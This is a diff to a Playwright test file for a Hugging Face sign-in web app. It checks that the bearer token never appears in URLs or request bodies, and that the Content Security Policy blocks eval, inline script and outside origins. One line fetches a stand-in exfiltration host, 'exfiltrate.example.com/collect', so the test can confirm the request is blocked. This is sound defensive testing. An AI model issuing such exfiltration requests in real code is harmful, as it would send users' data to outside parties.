@@ -108,7 +108,14 @@ test('signs in through the emulator, stays signed in across reloads, signs out; 
 			expect(entry.origin, `token sent to the ${entry.origin} origin`).toBe('hub');
 		}
 	}
-	expect(recorded.length).toBeGreaterThan(0);
+	// The browser did send it (to the Hub, in Authorization): the checks below see real traffic.
+	await expect
+		.poll(() =>
+			recorded.some(
+				(r) => r.headers.authorization === `Bearer ${token}` && new URL(r.url).origin === hubOrigin
+			)
+		)
+		.toBe(true);
 	for (const request of recorded) {
 		expect(request.url, 'never in a URL').not.toContain(token);
 		expect(request.postData ?? '', `never in a request body: ${request.url}`).not.toContain(token);
@@ -136,6 +143,62 @@ test('signs in through the emulator, stays signed in across reloads, signs out; 
 		page.getByRole('button', { name: 'Sign in with Hugging Face' }).first()
 	).toBeVisible();
 	await expect(accountButton(page)).toHaveCount(0);
+});
+
+test('CSP: strict policy in the page; blob workers compile WebAssembly; inline script, eval and other origins are blocked', async ({
+	page
+}) => {
+	const violations: string[] = [];
+	page.on('console', (message) => {
+		if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+	});
+	await page.goto('/settings');
+	await expect(page.getByRole('region', { name: 'Account' })).toBeVisible();
+	expect(violations, 'the app itself runs without CSP violations').toEqual([]);
+	const result = await page.evaluate(async () => {
+		const policy =
+			document
+				.querySelector('meta[http-equiv="content-security-policy"]')
+				?.getAttribute('content') ?? '';
+		// What wllama does: a worker from a blob: URL that compiles WebAssembly.
+		const source = `onmessage = async () => {
+			try { await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); postMessage('wasm ok'); }
+			catch (e) { postMessage('wasm failed: ' + e); }
+		};`;
+		const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
+		const wasm = await new Promise<string>((resolve) => {
+			worker.onmessage = (event) => resolve(String(event.data));
+			worker.onerror = (event) => resolve(`worker failed: ${event.message}`);
+			worker.postMessage('go');
+		});
+		worker.terminate();
+		let evalResult = 'allowed';
+		try {
+			(0, eval)('1 + 1');
+		} catch {
+			evalResult = 'blocked';
+		}
+		const script = document.createElement('script');
+		script.textContent = 'window.__cspInline = true;';
+		document.body.append(script);
+		const inline = (window as unknown as { __cspInline?: boolean }).__cspInline ? 'ran' : 'blocked';
+		const blocked: string[] = [];
+		document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.blockedURI));
+		await fetch('https://exfiltrate.example.com/collect').catch(() => undefined);
+		for (let i = 0; i < 50 && !blocked.some((uri) => uri.includes('exfiltrate')); i++)
+			await new Promise((resolve) => setTimeout(resolve, 100));
+		const blockedUri = blocked.join(' ');
+		return { policy, wasm, evalResult, inline, blockedUri };
+	});
+	expect(result.policy).toContain("default-src 'self'");
+	expect(result.policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
+	expect(result.policy).toContain("worker-src 'self' blob:");
+	expect(result.policy).toContain(`connect-src 'self'`);
+	expect(result.policy).toContain(hubOrigin);
+	expect(result.wasm).toBe('wasm ok');
+	expect(result.evalResult).toBe('blocked');
+	expect(result.inline).toBe('blocked');
+	expect(result.blockedUri).toContain('exfiltrate.example.com');
 });
 
 test('denying consent shows a clear error with a way to retry, and signs nobody in', async ({
